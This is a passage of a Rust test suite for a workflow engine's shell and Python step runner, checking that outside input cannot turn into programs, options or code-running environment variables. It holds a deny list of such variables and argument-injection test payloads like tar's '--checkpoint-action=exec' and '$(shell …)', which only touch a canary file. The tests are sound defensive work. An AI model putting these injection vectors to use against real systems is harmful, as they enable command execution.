    "PS4",
    "SHELLOPTS",
    "BASHOPTS",
    "CDPATH",
    "TAR_OPTIONS",
    "MAKEFLAGS",
    "MAKEFILES",
    "GNUMAKEFLAGS",
    "MFLAGS",
    "LUA_INIT",
    "LUA_INIT_5_4",
    "LUA_PATH",
    "http_proxy",
    "HTTPS_PROXY",
    "ALL_PROXY",
    "no_proxy",
    "EDITOR",
    "VISUAL",
    "GIT_EDITOR",
    "PAGER",
    "MANPAGER",
    "GIT_PAGER",
    "LESSOPEN",
    "LESSCLOSE",
    "BROWSER",
    "SHELL",
    "RUSTC_WRAPPER",
    "CARGO_BUILD_RUSTC_WRAPPER",
    "RUSTFLAGS",
    "CC",
    "CXX",
    "CFLAGS",
    "LDFLAGS",
    "npm_config_script_shell",
    "PIP_INDEX_URL",
    "GOFLAGS",
    "MAVEN_OPTS",
    "JAVA_TOOL_OPTIONS",
    "_JAVA_OPTIONS",
    "JDK_JAVA_OPTIONS",
    "CLASSPATH",
    "SSH_ASKPASS",
    "SUDO_ASKPASS",
    "GIT_ASKPASS",
    "GIT_SSH_COMMAND",
    "GIT_CONFIG_COUNT",
    "GIT_EXTERNAL_DIFF",
    "RSYNC_RSH",
    "CVS_RSH",
    "GZIP",
    "XZ_OPT",
    "ZIPOPT",
    "OPENSSL_CONF",
    "OPENSSL_ENGINES",
    "R_PROFILE",
    "R_PROFILE_USER",
    "JULIA_LOAD_PATH",
    "PHPRC",
    "PHP_INI_SCAN_DIR",
    "ERL_FLAGS",
    "DOTNET_STARTUP_HOOKS",
    "COMPlus_Profiler",
    "CORECLR_PROFILER_PATH",
    "GLIBC_TUNABLES",
    "GCONV_PATH",
    "PYTHONSTARTUP",
    "PYTHONPATH",
    "PERL5OPT",
    "RUBYOPT",
    "NODE_OPTIONS",
    "PSQLRC",
    "MYSQL_HOME",
    "TERMINFO",
    "INPUTRC",
    "VIMINIT",
    "EXINIT",
    "WGETRC",
    "CURL_HOME",
    "DOCKER_HOST",
    "KUBECONFIG",
    "PROMPT_COMMAND",
    "AWKPATH",
    "GREP_OPTIONS",
    "HOSTALIASES",
    "RES_OPTIONS",
    "RESTIC_PASSWORD_COMMAND",
    "BORG_PASSCOMMAND",
    "RCLONE_PASSWORD_COMMAND",
    "RCLONE_SFTP_SSH",
    "FZF_DEFAULT_COMMAND",
    "CLOUDSDK_PYTHON",
    "CLOUDSDK_PYTHON_ARGS",
    "TF_CLI_ARGS",
    "TF_CLI_ARGS_plan",
    "ANSIBLE_SSH_ARGS",
    "ANSIBLE_SSH_EXECUTABLE",
    "ANSIBLE_LIBRARY",
    "ANSIBLE_PYTHON_INTERPRETER",
    "GUNICORN_CMD_ARGS",
    "PYTEST_ADDOPTS",
    "PYTEST_PLUGINS",
    "COVERAGE_PROCESS_START",
    "shell_escape",
    "openout_any",
    "TEXMFCNF",
    "MAGICK_CONFIGURE_PATH",
    "MAGICK_CODER_MODULE_PATH",
    "AWS_CONFIG_FILE",
    "LESSKEYIN",
    "LESSKEY_CONTENT",
    "SYSTEM_WGETRC",
    "ANT_ARGS",
    "MAKE",
    "MAKEOVERRIDES",
    "GTK_MODULES",
    "GIO_EXTRA_MODULES",
    "QT_PLUGIN_PATH",
    "OCL_ICD_VENDORS",
    "LADSPA_PATH",
    "BASH_LOADABLES_PATH",
    "CCACHE_PREFIX",
    "CCACHE_COMPILER",
    "CMAKE_C_COMPILER_LAUNCHER",
    "SSH_SK_PROVIDER",
    "SSH_PKCS11_HELPER",
    "SSH_SK_HELPER",
    "GVIMINIT",
    "PYENV_HOOK_PATH",
    "RBENV_HOOK_PATH",
    "NIX_CONFIG",
    "NIX_BUILD_HOOK",
    "NIX_SSHOPTS",
    "SENDMAIL",
    "HGMERGE",
    "BZR_SSH",
    "OMP_TOOL_LIBRARIES",
    "CUDA_INJECTION64_PATH",
    "GHCRTS",
    "LIBMYSQL_PLUGINS",
    "QEMU_SET_ENV",
    "ACKRC",
    "JAVA_HOME",
    "RESTIC_REPOSITORY",
];

/// Commands in which a variable is program text, whatever its name.
const EXPANDED: &[&str] = &[
    "[make, -f, Makefile]",
    "[gmake]",
    "[bmake]",
    "[timeout, '5', make]",
    "[sh, -c, 'cd a && make all']",
    "make deploy",
    "if true; then X=1 sudo make; fi",
];

fn canary(text: &str, folder: &Path) -> String {
    text.replace("CANARY", &folder.join("canary").to_string_lossy())
}

// case: command.data
#[tokio::test]
async fn what_was_sent_is_no_program_and_no_option() {
    let folder = tempfile::tempdir().unwrap();
    let (mut failures, mut by_engine) = (Vec::new(), 0);
    for (command, sent) in ARGUMENTS {
        let fields = format!("command: {}", canary(command, folder.path()));
        let fields = quoted(&fields);
        match refusal("shell", &fields, &canary(sent, folder.path())).await {
            Ok(by) => by_engine += usize::from(by != "compiler"),
            Err(what) => failures.push(format!("{command} with {sent:?}: {what}")),
        }
    }
    for (command, sent) in INPUTS {
        let fields = format!("command: {command}, stdin: §");
        let fields = quoted(&fields);
        if let Err(what) = refusal("shell", &fields, &canary(sent, folder.path())).await {
            failures.push(format!("{command} reading {sent:?}: {what}"));
        }
    }
    for name in VARIABLES {
        let fields = quoted(&format!("command: [df], env: {{ {name}: § }}"));
        if let Err(what) = refusal("shell", &fields, "x").await {
            failures.push(format!("{name}: {what}"));
        }
    }
    for command in EXPANDED {
        let fields = quoted(&format!("command: {command}, env: {{ NAME: § }}"));
        let sent = canary("$(shell touch CANARY)", folder.path());
        let refused = refusal("shell", &fields, &sent);
        if let Err(what) = refused.await {
            failures.push(format!("{command} with a variable: {what}"));
        }
    }
    let left: Vec<_> = std::fs::read_dir(folder.path()).unwrap().flatten().collect();
    assert!(failures.is_empty(), "{} got through:\n{}", failures.len(), failures.join("\n"));
    assert!(left.is_empty(), "something ran: {left:?}");
    assert!(by_engine > 20, "what only a run can say is refused when it is known: {by_engine}");
}

/// Words that are templates in quotes, as YAML wants them.
fn quoted(fields: &str) -> String {
    let mut quoted = String::new();
    let mut is_quoted = false;
    for c in fields.chars() {
        is_quoted ^= c == '\'';
        match c {
            '§' if !is_quoted => quoted.push_str("'§'"),
            other => quoted.push(other),
        }
    }
    quoted
}

/// Commands that work, with what is sent in them.
const FINE: &[(&str, &str)] = &[
    ("[df, §]", "/"),
    ("[echo, §]", "a b; touch /nowhere $(id)"),
    ("[grep, -c, --, §, /etc/passwd]", "-root"),
    ("[grep, -e, §, /etc/passwd]", "root"),
    ("[printf, --, §]", "-5"),
    ("[seq, --, §, '1']", "-5"),
    ("[cat, --, §]", "-none"),
    ("[git, log, --oneline, --, §]", "-x"),
    ("[git, log, '--author=§']", "-x"),
    ("[git, commit, -m, §]", "a message"),
    ("[git, clone, -q, --, §, /nowhere/x]", "-x"),
    ("[curl, --version, §]", "https://example.invalid"),
    ("[tar, -cf, /dev/null, --, §]", "-x"),
    ("[sort, --, §]", "-x"),
    ("[sed, -n, p, --, §]", "-x"),
    ("[awk, -v, 'x=§', 'BEGIN { print x }']", "-x"),
    ("[awk, '{ print $1 }', §]", "/etc/hostname"),
    ("[find, ., -maxdepth, '0', -name, §]", "x"),
    ("[bash, nodes/own.sh, §, '--name=§']", "x $(id)"),
    ("[bash, -c, 'echo \"$1\"', _, §]", "`id`"),
    ("[python3, nodes/own.py, §]", "import os"),
    ("[python3, -c, 'print(1)', §]", "x"),
    ("[perl, -e, 'print 1', --, §]", "-x"),
    ("[timeout, '5', df, §]", "/"),
    ("[timeout, '5', grep, --, §, /etc/passwd]", "-x"),
    ("[env, 'DATA=§', sh, nodes/own.sh]", "-x"),
    ("[df, '{{ event.payload.y | default(5) | int }}']", "x"),
    ("[head, '-n{{ event.payload.y | default(5) | int }}', §]", "/etc/hostname"),
    ("[xargs, grep, -c, --]", "x"),
    ("[python3, -m, base64, -t, §]", "x"),
    ("[python3, -m, calendar, §]", "2026"),
    ("[choom, -n, '1', --, df, §]", "/"),
    ("[gh, issue, --help, --title, §]", "a title"),
    ("[rename, s/a/b/, --, §]", "none"),
    ("[env, 'DATA=§', printf, make]", "$(id)"),
];

#[tokio::test]
async fn what_stays_data_works_as_before() {
    let mut failures = Vec::new();
    for (command, sent) in FINE {
        let fields = quoted(&format!("command: {command}"));
        let plan = match compile("shell", &fields) {
            Ok(plan) => plan,
            Err(found) => {
                failures.push(format!("{command}: {found:?}"));
                continue;
            }
        };
        let done = performed("shell", &plan, sent).await;
        // Some of them are not installed everywhere, or fail by themselves.
        if done.as_ref().is_err_and(|failed| failed.code != "SHELL_START") {
            failures.push(format!("{command} with {sent:?}: {done:?}"));
        }
    }
    for (command, stdin) in [
        ("[cat]", "-x\ntouch x"),
        ("[sh, nodes/own.sh]", "-x"),
        ("[xargs, printf, --]", "-x"),
        ("[tar, -tf, '-']", "x"),
        ("[jq, .a]", "{}"),
        ("[sh, -c, 'cat']", "touch x"),
        ("[ssh, host, cat]", "x"),
        ("[python3, -m, json.tool]", "{}"),
        ("[docker, exec, -i, box, cat]", "x"),
        ("[split, '--filter=gzip > /dev/null']", "x"),
    ] {
        let plan = compile("shell", &quoted(&format!("command: {command}, stdin: §")));
        let plan = plan.unwrap_or_else(|found| panic!("{command}: {found:?}"));
        let done = performed("shell", &plan, stdin).await;
        if done.as_ref().is_err_and(|failed| failed.code != "SHELL_START") {
            failures.push(format!("{command} reading {stdin:?}: {done:?}"));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[tokio::test]
async fn an_author_can_vouch_for_arguments_and_not_for_programs() {
    let folder = tempfile::tempdir().unwrap();
    let trusting = |command: &str| format!("command: {command}, trusts_arguments: true");
    let evil = canary("--checkpoint-action=exec=touch CANARY", folder.path());
    let fields = quoted(&trusting("[tar, -cf, /dev/null, --checkpoint=1, §, /etc/hostname]"));
    let plan = compile("shell", &fields).unwrap();
    let warned: Vec<&str> = plan.warnings.iter().map(|warning| warning.code.as_str()).collect();
    assert_eq!(warned, ["arguments_trusted"]);
    performed("shell", &plan, &evil).await.unwrap();
    assert!(folder.path().join("canary").exists(), "the vectors are no false alarm");
    for command in ["[bash, -c, §]", "[§]", "[env, §]", "[bash]"] {
        let fields = format!("{}, stdin: §", trusting(command));
        assert_eq!(refusal("shell", &quoted(&fields), "id").await, Ok("compiler".into()));
    }
    let fields = quoted(&trusting("[df, §]")).replace("true", "'{{ event.payload.y }}'");
    assert!(compile("shell", &fields).is_err(), "nobody else can vouch");
}

#[tokio::test]
async fn a_program_is_known_by_every_name_that_leads_to_it() {
    let folder = tempfile::tempdir().unwrap();
    let link = |name: &str, target: &Path| {
        let path = folder.path().join(name);
        std::os::unix::fs::symlink(target, &path).unwrap();
        path.to_string_lossy().into_owned()
    };
    let shell = link("mytool", Path::new("/bin/sh"));
    let twice = link("other", Path::new("mytool"));
    let tar = link("zipup", Path::new("/usr/bin/tar"));
    let touch = canary("touch CANARY", folder.path());
    for (fields, sent) in [
        (format!("command: [{shell}, -c, §]"), touch.as_str()),
        (format!("command: [{twice}, -c, §]"), &touch),
        (format!("command: [{twice}, §]"), "/nowhere"),
        (format!("command: [timeout, '5', {twice}, -c, §]"), &touch),
        (format!("command: [{shell}], stdin: §"), &touch),
        (format!("command: [env, {twice}], stdin: §"), &touch),
        (format!("command: [{tar}, -cf, /dev/null, --to-command, §]"), &touch),
    ] {
        let refused = refusal("shell", &quoted(&fields), sent).await;
        assert_eq!(refused, Ok("SHELL_ARGUMENT".into()), "{fields}");
    }
    assert!(!folder.path().join("canary").exists());
}

#[tokio::test]
async fn the_arguments_of_a_python_script_are_no_options() {
    for (fields, sent) in [
        ("script: nodes/own.py, args: [§]", "-x"),
        ("script: nodes/own.py, args: [--, §]", "--x"),
        ("script: nodes/own.py, args: [a, '-§']", "x"),
    ] {
        assert!(refusal("python", &quoted(fields), sent).await.is_ok(), "{fields}");
    }
    for (fields, sent) in [
        ("script: nodes/own.py, args: [§, '--name=§']", "x"),
        ("script: nodes/own.py, args: [§], trusts_arguments: true", "-x"),
        ("script: nodes/own.py, stdin: §", "-x"),
    ] {
        let plan = compile("python", &quoted(fields)).unwrap();
        let done = performed("python", &plan, sent).await.unwrap();
        assert_eq!(done.fault, None, "{fields}");
    }
}

#[tokio::test]
async fn a_refusal_says_what_where_and_what_to_do() {
    let plan = compile("shell", &quoted("command: [df, -h, §]")).unwrap();
    let failed = performed("shell", &plan, "--x").await.unwrap_err();
    assert_eq!(
        failed.message,
        "nothing of `fetch` was started: item 3 of `command` was sent by somebody, and cannot be an option, \
         which begins with `-` or `+`; put `--` before it where the program honours that, hand \
         the value over in `env` or `stdin`, pass it through `one_of(…)`, `slug` or `int`, or \
         say `trusts_arguments: true`"
    );
}

#[test]
fn the_guide_shows_a_workflow_that_compiles() {
    let guide = include_str!("../../../../docs/guide/steps.md");
    let example = guide.split("```yaml\n").find(|text| text.contains("trusts_arguments")).unwrap();
    let plan = compiled(example.split("```").next().unwrap()).unwrap();
    assert_eq!(plan.warnings.len(), 1);
}
